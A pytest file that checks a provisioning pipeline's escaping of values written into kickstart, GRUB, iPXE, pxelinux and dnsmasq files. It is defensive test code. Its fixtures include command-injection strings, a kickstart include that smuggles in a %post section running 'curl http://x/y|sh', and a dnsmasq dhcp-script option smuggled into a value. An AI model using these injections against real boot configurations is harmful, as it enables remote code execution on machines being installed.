"""Per-format escaping: a value that got past validation stays one word of the format it is written
into, read back by that format's own parser where one can run here, or is refused."""

import dataclasses
import shlex
from pathlib import Path

import pytest
from pykickstart.parser import KickstartParser
from pykickstart.version import makeVersion

from pipeline import escape
from pipeline.deploy import inventory, kickstart, pxe
from pipeline.paths import ROOT
from pipeline.run import run

EXAMPLE = ROOT / "kickstarts" / "inventory.example.toml"
SHA = "ab" * 32
HOSTILE = ["a b", "x;reboot", "$(id)", "${net0/mac}", "it's", 'say "hi"', "back\\slash", "a|b&&c", "{x}", "#x"]
LINE_BREAKS = ["a\nb", "a\rb", "a\tb", "a\x00b", "http://x/site.ks\n%post\ncurl\thttp://x/y|sh\n%end"]


@pytest.mark.parametrize("value", [*HOSTILE, "plain-word", "console=ttyS0,115200"])
def test_kickstart_words_read_back_whole_by_shlex_as_pykickstart_splits(value):
    assert shlex.split(f"bootloader --append={escape.kickstart(value)}", comments=True) == [
        "bootloader", f"--append={value}"]


@pytest.mark.parametrize("filter_", [escape.kickstart, escape.grub, escape.ipxe, escape.pxelinux, escape.dnsmasq,
                                     escape.comment])
@pytest.mark.parametrize("value", LINE_BREAKS)
def test_no_format_takes_a_line_break_or_control_character(filter_, value):
    with pytest.raises(escape.EscapeError) as caught:
        filter_(value)
    assert "\n" not in str(caught.value)


GRUB = [
    ("console=ttyS0,115200", "console=ttyS0,115200"),  # bare: what the pipeline writes stays as it was
    ("Installing n1 (role host-image)", '"Installing n1 (role host-image)"'),
    ("x;reboot", '"x;reboot"'),
    ("${root}", '"\\${root}"'),
    ('a"b\\c', '"a\\"b\\\\c"'),
    ("{ } | & < > # * ? [ ]", '"{ } | & < > # * ? [ ]"'),
]


@pytest.mark.parametrize("value, written", GRUB, ids=[g[0] for g in GRUB])
def test_grub_quotes_what_its_lexer_would_read(tmp_path, value, written):
    assert escape.grub(value) == written
    script = tmp_path / "grub.cfg"
    script.write_text(f"echo {written}\n")
    run(["grub-script-check", script])  # GRUB's own parser: the quoting is balanced


@pytest.mark.parametrize("value", [*HOSTILE, "||", ":label", "a&&b"])
def test_ipxe_has_no_quoting_so_refuses(value):
    with pytest.raises(escape.EscapeError, match="an iPXE script, which has no quoting"):
        escape.ipxe(value)


@pytest.mark.parametrize("value", ["a b", "tag:x,y", "#x", 'a"b', "a\\b"])
def test_dnsmasq_refuses_separators_comments_and_quotes(value):
    with pytest.raises(escape.EscapeError, match=r"dnsmasq\.conf, which has no quoting"):
        escape.dnsmasq(value)


def test_safe_words_pass_unchanged():
    url = "http://[fd00::1]:8080/host-image/host-image.tar.gz"
    assert escape.ipxe(url) == escape.dnsmasq(url) == escape.pxelinux(url) == url
    assert escape.kickstart("http://10.0.0.1:8080/host-image/host-image.tar.gz") == \
        "http://10.0.0.1:8080/host-image/host-image.tar.gz"
    assert escape.pxelinux("ip=10.0.0.11::10.0.0.1:255.255.255.0:n1:bootnet:none") == \
        "ip=10.0.0.11::10.0.0.1:255.255.255.0:n1:bootnet:none"
    assert escape.comment("any text; even $x") == "any text; even $x"
    with pytest.raises(escape.EscapeError):
        escape.pxelinux("a b")


# --- the templates write every value through these filters


@pytest.fixture(scope="module")
def example():
    return inventory.load(EXAMPLE)


def kickstart_of(example, **changes) -> str:
    node = example.nodes["compute1"]
    ks = dataclasses.replace(kickstart.kickstart_for(example, node, kickstart.LiveImage("x.tar.gz", SHA), "RHEL9"),
                             **changes)
    return kickstart.render(ks, [])[0]


def test_kickstart_template_quotes_values(example):
    args = ("console=ttyS0,115200", 'quiet" --location=none')
    text = kickstart_of(example, kernel_args=args, tuned_profile="a b")
    handler = makeVersion("RHEL9")
    KickstartParser(handler, followIncludes=False).readKickstartFromString(text)
    assert handler.bootloader.appendLine == " ".join(args)
    assert handler.bootloader.location != "none"
    assert "profile='a b'\n" in text


def test_an_include_cannot_open_a_section(example):
    with pytest.raises(escape.EscapeError, match="control character"):
        kickstart_of(example, includes=(LINE_BREAKS[-1],))


def boot_of(example, **changes) -> pxe.NodeBoot:
    boot = pxe.node_boot(example, example.nodes["compute1"])
    return dataclasses.replace(boot, **changes)


def render(name: str, **values) -> str:
    return pxe.templates().get_template(name).render(inventory=Path("inventory.toml"), **values)


def test_grub_template_keeps_each_argument_one_word(example):
    boot = boot_of(example, args=("inst.ks=http://x/n1.ks", "x;reboot"))
    text = render("grub.cfg.j2", boot=boot)
    assert 'linux /installer/installer.vmlinuz inst.ks=http://x/n1.ks "x;reboot"\n' in text


@pytest.mark.parametrize("template, args", [("node.ipxe.j2", ("a${x}",)), ("pxelinux.cfg.j2", ("a b",)),
                                            ("node.ipxe.j2", ("a\nb",)), ("grub.cfg.j2", ("a\nb",))])
def test_boot_templates_refuse_what_they_cannot_hold(example, template, args):
    with pytest.raises(escape.EscapeError):
        render(template, boot=boot_of(example, args=args), base_url="http://x")


def test_dnsmasq_template_refuses_an_option_smuggled_into_a_value(example):
    site_pxe = inventory.PxeSite(interface="eth0\ndhcp-script=/tmp/x")
    with pytest.raises(escape.EscapeError):
        render("dnsmasq.conf.j2", root="/srv/pxe", conf="/srv/dnsmasq.conf", conf_name="dnsmasq.conf",
               pxe=site_pxe, server="10.0.0.1", bios="undionly.kpxe", efi="ipxe.efi", base_url="http://x")
